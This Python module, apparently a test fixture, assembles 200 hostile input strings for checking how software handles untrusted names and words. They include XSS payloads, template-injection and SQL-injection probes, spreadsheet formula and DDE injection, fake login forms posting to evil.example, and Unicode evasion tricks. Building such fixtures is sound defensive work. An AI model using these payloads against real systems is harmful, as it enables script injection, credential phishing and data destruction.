"""Texts that a visitor, a caller or a forger may send where a name or a word is expected: exactly 200."""

from __future__ import annotations

import itertools

# Each alone, and behind what might close the place it stands in.
_PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onpageshow=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x", "<object data='javascript:alert(1)'>",
    "<embed src='data:text/html,<script>alert(1)</script>'>", "<meta http-equiv=refresh content='0;url=//x'>",
    "<base href='https://evil.example/'>", "<link rel=stylesheet href='//evil.example/x.css'>",
    "<form action='//evil.example'><button>Log in</button></form>", "<style>*{display:none}</style>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<template><script>alert(1)",
    "<x onclick=alert(1) style='position:fixed;inset:0'>",
)  # fmt: skip
_CLOSERS = ("", '">', "'>", "</title>", "</textarea>", "--></style></script>", "\x00", "]]>")
_ALONE = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
    "\\\\evil.example\\x",
    "https://evil.example@pallets.example/", "https://pallets.example.evil.example/",
    "' onmouseover='alert(1)", '" onmouseover="alert(1)', "` onmouseover=`alert(1)", "'-alert(1)-'",
    "{{7*7}}", "${7*7}", "{% for x in ().__class__.__base__.__subclasses__() %}", "#{7*7}", "<%= 7*7 %>",
    "%(n)s", "{0.__class__}", "' OR 1=1 --", "1; DROP TABLE calls; --", "\u202egnp.exe", "a\u0300" * 30,
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)", "+ADw-script+AD4-", "<!--", "<![CDATA[", "</script", "<scr<script>ipt>",
    '=HYPERLINK("https://evil.example","x")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "-2+3",
    "\ufeff=1+1",
)  # fmt: skip
HOSTILE = (*(closer + text for closer, text in itertools.product(_CLOSERS, _PAYLOADS)), *_ALONE)
assert len(HOSTILE) == 200
